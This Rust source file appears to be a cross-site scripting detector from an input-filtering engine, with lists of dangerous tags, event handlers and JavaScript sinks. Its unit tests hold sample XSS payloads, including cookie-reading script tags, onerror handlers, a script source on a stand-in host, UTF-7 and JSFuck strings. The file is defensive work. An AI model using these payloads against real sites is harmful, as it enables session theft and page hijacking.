//! Cross-site scripting, judged by the HTML or JavaScript context a value
//! would create if it were echoed into a page.
//!
//! Markup context: a tag that executes or loads (`<script`, `<iframe`,
//! `<svg onload=`), any tag with an event handler, or a `javascript:` /
//! `vbscript:` / `data:text/html` URL in an attribute. Attribute context: a
//! value that closes a quote and opens an event handler. Script context:
//! sinks and sources (`document.cookie`, `eval(`, `setTimeout(`), template
//! literal calls and JSFuck. Tag names spelled out one letter at a time
//! (`<f o r m`) are joined back. Text with a lone `<` or the word "script"
//! is neither.

use super::prose::{as_notice, reads_as_prose};
use super::Hit;

/// Tags that execute, load or restyle content without an event handler.
const ACTIVE_TAGS: &[&str] = &[
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "meta",
    "link",
    "base",
    "style",
    "svg",
    "math",
    "form",
    "isindex",
    "xml",
    "import",
    "vmlframe",
    "xss",
    "body",
    "img",
    "image",
    "video",
    "audio",
    "source",
    "input",
    "button",
    "details",
    "marquee",
    "template",
    "animate",
    "set",
    "handler",
    "listener",
    "layer",
    "ilayer",
    "bgsound",
    "xmp",
    "plaintext",
    "noscript",
    "portal",
    "textarea",
    "title",
    "a",
];

/// Tags that are dangerous on their own (no attribute needed).
const SELF_ACTIVE: &[&str] = &[
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "meta", "link", "base",
    "style", "svg", "math", "isindex", "import", "vmlframe", "xss", "handler", "listener", "layer",
    "ilayer", "bgsound", "portal",
];

pub(super) const JS_SINKS: &[&str] = &[
    "document.cookie",
    "document.domain",
    "document.write",
    "document.location",
    "window.location",
    "location.href",
    "location.hash",
    "window.name",
    "document.createelement",
    "innerhtml",
    "outerhtml",
    "fromcharcode",
    "localstorage.",
    "sessionstorage.",
];

pub(super) const JS_CALLS: &[&str] = &[
    "alert",
    "confirm",
    "prompt",
    "eval",
    "settimeout",
    "setinterval",
    "execscript",
    "msgbox",
    "function",
    "constructor",
    "atob",
    "btoa",
    "importscripts",
    "fetch",
];

/// The tag name at the start of `s` (after `<`), with an optional namespace.
fn tag_name(s: &str) -> Option<&str> {
    let s = s.strip_prefix('/').unwrap_or(s);
    let end = s
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == ':' || c == '-' || c == '_'))
        .unwrap_or(s.len());
    let name = &s[..end];
    let local = name.rsplit(':').next().unwrap_or(name);
    (!local.is_empty() && local.as_bytes()[0].is_ascii_alphabetic()).then_some(local)
}

/// Letters of a spelled-out tag name read; longer than any tag name.
const MAX_SPELLED_LETTERS: usize = 12;

/// `<f o r m`, `<s c r i p t`: a tag name written one letter at a time with
/// separators between (to get past filters that look for the name), joined
/// back. `None` unless every letter stands alone.
fn spelled_out_tag(s: &str) -> Option<String> {
    let mut letters = String::new();
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c.is_ascii_alphabetic() {
            if letters.len() == MAX_SPELLED_LETTERS
                || chars.peek().is_some_and(char::is_ascii_alphanumeric)
            {
                return None;
            }
            letters.push(c);
        } else if matches!(c, '<' | '>') || c.is_ascii_digit() || !c.is_ascii() {
            break;
        }
    }
    (letters.len() >= 3).then_some(letters)
}

/// Whether `s` holds an event handler attribute (`onload=`, `onx =`).
fn has_event_handler(s: &str) -> bool {
    let b = s.as_bytes();
    let mut i = 0;
    while let Some(pos) = s[i..].find("on") {
        let at = i + pos;
        let before_ok = at == 0
            || matches!(
                b[at - 1],
                b' ' | b'/' | b'"' | b'\'' | b'\t' | b'\n' | b';' | b'+' | b'`'
            );
        let name_len = b[at + 2..]
            .iter()
            .take_while(|c| c.is_ascii_alphabetic())
            .count();
        let mut k = at + 2 + name_len;
        while k < b.len() && b[k] == b' ' {
            k += 1;
        }
        if before_ok && name_len >= 3 && b.get(k) == Some(&b'=') {
            return true;
        }
        if at >= 4 && &b[at - 4..at] == b"form" && s[at..].starts_with("onaction") {
            return true;
        }
        i = at + 2;
        if i >= s.len() {
            break;
        }
    }
    false
}

/// DOM event handler attributes (a value that is only `name=` of one of
/// these reads as an attribute injection).
const HANDLERS: &[&str] = &[
    "formaction",
    "onload",
    "onerror",
    "onclick",
    "ondblclick",
    "onmouseover",
    "onmouseout",
    "onmousedown",
    "onmouseup",
    "onmousemove",
    "onmouseenter",
    "onmouseleave",
    "onfocus",
    "onblur",
    "onfocusin",
    "onfocusout",
    "onchange",
    "oninput",
    "onsubmit",
    "onreset",
    "onselect",
    "onkeydown",
    "onkeyup",
    "onkeypress",
    "onresize",
    "onscroll",
    "onunload",
    "onbeforeunload",
    "onhashchange",
    "onpageshow",
    "onpagehide",
    "onpopstate",
    "onmessage",
    "onanimationstart",
    "onanimationend",
    "onanimationiteration",
    "ontransitionend",
    "ontoggle",
    "onpointerover",
    "onpointerdown",
    "onpointerup",
    "onpointerenter",
    "onbegin",
    "onend",
    "onrepeat",
    "onstart",
    "onfinish",
    "onreadystatechange",
    "oncopy",
    "oncut",
    "onpaste",
    "ondrag",
    "ondrop",
    "ondragstart",
    "oncontextmenu",
    "onwheel",
    "onplay",
    "onplaying",
    "onpause",
    "onended",
    "oncanplay",
    "onloadstart",
    "onprogress",
    "onshow",
    "onsearch",
    "oninvalid",
    "onauxclick",
    "onbeforeprint",
    "onafterprint",
    "onformdata",
    "onsecuritypolicyviolation",
];

fn starts_with_known_handler(s: &str) -> bool {
    HANDLERS.iter().any(|h| {
        s.strip_prefix(h)
            .is_some_and(|rest| rest.trim_start().starts_with('='))
    }) || (s.starts_with("on") && s.len() > 2 && {
        // `onabcdefgh= =x`: an attribute with an empty value followed by another.
        let name_len = s[2..].bytes().take_while(u8::is_ascii_alphabetic).count();
        s[2 + name_len..].trim_start().starts_with("= =")
    })
}

fn has_script_url(s: &str) -> bool {
    let compact: String = s
        .chars()
        .filter(|c| !c.is_whitespace() && *c != '\0')
        .collect();
    [
        "javascript:",
        "vbscript:",
        "url(javascript",
        "url(vbscript",
        "importimplementation",
        "livescript:",
        "data:text/html",
        "data:image/svg",
        "data:application/x",
    ]
    .iter()
    .any(|p| compact.contains(p))
}

fn has_js_call(s: &str) -> bool {
    // `window["document"]["cookie"]` is `window.document.cookie`.
    let compact: String = s.chars().filter(|c| !c.is_whitespace()).collect();
    let compact = compact
        .replace("(document)", "document")
        .replace("(window)", "window")
        .replace("[\"", ".")
        .replace("\"]", "")
        .replace("['", ".")
        .replace("']", "");
    if [
        "self.",
        "top.",
        "parent.",
        "this.",
        "globalthis.",
        "frames.",
    ]
    .iter()
    .any(|w| compact.starts_with(w) && compact.len() > w.len())
        && s.contains('[')
    {
        return true;
    }
    JS_SINKS.iter().any(|p| compact.contains(p))
        || JS_CALLS.iter().any(|f| {
            compact.match_indices(f).any(|(at, _)| {
                let before = compact[..at].chars().next_back();
                let after = &compact[at + f.len()..];
                before.is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_')
                    && (after.starts_with('(')
                        || after.starts_with('`')
                        || after.starts_with(".call")
                        || after.starts_with(".apply"))
            })
        })
        || compact.contains("${") && compact.contains('`')
}

/// Looks for XSS in a folded value.
pub fn detect(folded: &str, text: &str, hits: &mut Vec<Hit>) {
    let start = hits.len();
    find_markup(folded, text, hits);
    // Asked only once something is found: clean values pay nothing.
    if hits.len() > start && reads_as_prose(text) && !runs_script(folded) {
        for hit in hits.drain(start..).collect::<Vec<_>>() {
            hits.push(as_notice(hit));
        }
    }
}

/// Script that would run, in a value that reads as prose: a `javascript:`
/// URL, a `<script>` with code or a source, or an event handler that calls
/// something. A sentence that names a tag ("brb, <script> rehearsal at 3",
/// "escape it or <img src=x onerror=...> would run") runs nothing.
fn runs_script(folded: &str) -> bool {
    /// How much of a script element's content is read for code.
    const SCRIPT_REACH: usize = 200;
    let calls = |code: &str| {
        code.as_bytes()
            .windows(2)
            .any(|w| (w[0].is_ascii_alphanumeric() || w[0] == b'_') && matches!(w[1], b'(' | b'`'))
    };
    let script_runs = folded.match_indices("<script").any(|(at, _)| {
        let tag = &folded[at..];
        let Some(close) = tag.find('>') else {
            return false;
        };
        let content = &tag[close + 1..];
        let mut end = content.len().min(SCRIPT_REACH);
        while !content.is_char_boundary(end) {
            end -= 1;
        }
        tag[..close].contains("src") || calls(&content[..end])
    });
    let handler_calls = folded.match_indices(" on").any(|(at, _)| {
        let rest = &folded[at + 3..];
        let name_len = rest.bytes().take_while(u8::is_ascii_alphabetic).count();
        let value = rest[name_len..].trim_start();
        let Some(value) = value.strip_prefix('=') else {
            return false;
        };
        let value = value.trim_start().trim_start_matches(['"', '\'']);
        let word = value
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'$'))
            .count();
        word > 0 && matches!(value.as_bytes().get(word), Some(b'(' | b'`' | b'='))
    });
    folded.contains("javascript:") || script_runs || handler_calls
}

/// Markup, attribute and script contexts in a value.
fn find_markup(folded: &str, text: &str, hits: &mut Vec<Hit>) {
    // An argument name that opens with blanks and is an `on...` attribute:
    // `  onload= =x` breaks into a tag's attribute list.
    let name = folded.trim_end_matches(['=', ' ']);
    if text.starts_with([' ', '\t', '"', '\''])
        && name.starts_with("on")
        && name.len() > 4
        && name.bytes().all(|b| b.is_ascii_alphabetic())
    {
        hits.push(Hit::new("xss.attribute_breakout", 5.0, 0.8, 1));
        return;
    }
    // Markup: `<tag ...`.
    for (at, _) in folded.match_indices('<') {
        let rest = &folded[at + 1..];
        if spelled_out_tag(rest).is_some_and(|n| ACTIVE_TAGS.contains(&n.as_str())) {
            hits.push(Hit::new("xss.spelled_out_tag", 5.0, 0.85, 1));
            return;
        }
        let Some(name) = tag_name(rest) else {
            // `<"onload=`: junk where the tag name goes, then a handler.
            let after_junk = rest
                .trim_start_matches(|c: char| !c.is_ascii_alphanumeric() && c != '<' && c != '>');
            if after_junk.len() < rest.len()
                && has_event_handler(after_junk)
                && after_junk.starts_with("on")
            {
                hits.push(Hit::new("xss.event_handler", 5.0, 0.85, 1));
                return;
            }
            continue;
        };
        let mut end = rest.find('>').map_or(rest.len(), |e| e + 1).min(400);
        while !rest.is_char_boundary(end) {
            end -= 1;
        }
        let tag_text = &rest[..end];
        if SELF_ACTIVE.contains(&name) {
            hits.push(Hit::new("xss.active_tag", 5.0, 0.9, 1));
            return;
        }
        if ACTIVE_TAGS.contains(&name) && (has_event_handler(tag_text) || has_script_url(tag_text))
        {
            hits.push(Hit::new("xss.tag_with_handler", 5.0, 0.95, 1));
            return;
        }
        if has_event_handler(tag_text) {
            hits.push(Hit::new("xss.event_handler", 5.0, 0.9, 1));
            return;
        }
        if rest.starts_with('?') && rest.contains("import") {
            hits.push(Hit::new("xss.active_tag", 5.0, 0.8, 1));
            return;
        }
    }
    // Attribute break-out: `" onmouseover=...`, or a value that is only a handler.
    let trimmed = folded.trim_start_matches(['"', '\'', ' ', '>', '/']);
    let quote_break = trimmed.len() != folded.len() && folded.starts_with(['"', '\'']);
    if (quote_break && has_event_handler(folded)) || starts_with_known_handler(trimmed) {
        hits.push(Hit::new("xss.attribute_breakout", 5.0, 0.85, 1));
        return;
    }
    if has_script_url(folded) {
        hits.push(Hit::new("xss.script_url", 5.0, 0.9, 1));
        return;
    }
    if folded.contains("+adw-") && (folded.contains("+ad4-") || folded.contains("script")) {
        hits.push(Hit::new("xss.utf7", 5.0, 0.9, 1));
        return;
    }
    let jsfuck_alphabet = folded.len() >= 6 && folded.bytes().all(|b| b"[]()!+ ".contains(&b));
    if folded.contains("[]")
        && (jsfuck_alphabet || folded.matches("+[]").count() + folded.matches("![]").count() >= 2)
    {
        hits.push(Hit::new("xss.jsfuck", 5.0, 0.9, 1));
        return;
    }
    if folded.contains("@import")
        || folded.contains("expression(")
        || folded.contains("-moz-binding")
    {
        hits.push(Hit::new("xss.css_injection", 5.0, 0.8, 1));
        return;
    }
    if has_js_call(folded) {
        hits.push(Hit::new("xss.script_context", 5.0, 0.75, 1));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fires(s: &str) -> bool {
        super::super::fires(detect, s)
    }

    /// The highest score `detect` gives `s`.
    fn top_score(s: &str) -> f64 {
        let mut hits = Vec::new();
        detect(&crate::decode::fold::fold(s), s, &mut hits);
        hits.iter().map(|h| h.score).fold(0.0, f64::max)
    }

    #[test]
    fn in_prose_only_script_that_runs_counts_in_full() {
        for prose in [
            "brb, <script> rehearsal at 3 with the whole team tonight",
            "We should escape user input before rendering; <img src=x onerror=...> would run",
        ] {
            assert!(top_score(prose) < 5.0, "{prose}");
        }
        for attack in [
            "great product, thanks a lot <script>alert(document.cookie)</script>",
            "nice photo of the team <img src=x onerror=alert(1)> see you",
            "a lovely day at the beach <script src=//evil.test/x.js></script>",
        ] {
            assert_eq!(top_score(attack), 5.0, "{attack}");
        }
    }

    #[test]
    fn catches_markup_attribute_and_script_contexts() {
        for attack in [
            "<script >alert(1);</script>",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,alert(1)\" />",
            "<img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "  onload= =vardata",
            "ja\tvascript:alert(1)",
            "<p style=\"background:url(javascript:alert(1))\">",
            "document /*foo*/ . cookie",
            "[].sort.call`${alert}1337`",
            "x\";setTimeout(name, 1)//",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "(![]+[])[+!+[]]",
        ] {
            assert!(fires(attack), "missed: {attack}");
        }
    }

    #[test]
    fn multibyte_text_around_handlers_does_not_panic() {
        // Found by the engine fuzz target: `on` right after a 3-byte character.
        assert!(!fires("'\u{fffd}qsion"));
        assert!(!fires(&format!("<a{}>", "\u{e9}".repeat(300))));
    }

    #[test]
    fn stays_quiet_on_text() {
        for benign in [
            "a < b and c > d",
            "The script was great, on stage",
            "online=true",
            "https://www.golino-piovani.com/",
            "Call me at 5 (evenings)",
            "3 <4 hearts",
        ] {
            assert!(!fires(benign), "false positive: {benign}");
        }
    }

    #[test]
    fn joins_spelled_out_tags_and_sees_handlers_after_junk() {
        assert!(fires("bar<f o r m"));
        assert!(fires("$<s c r i p t"));
        assert!(fires("<\"onwebkitplaybacktargetavailabilitychanged="));
        assert!(!fires("grades: <a b c d>"));
        assert!(!fires("x < y and z"));
        assert!(!fires("<\"quoted\" onion rings"));
    }
}
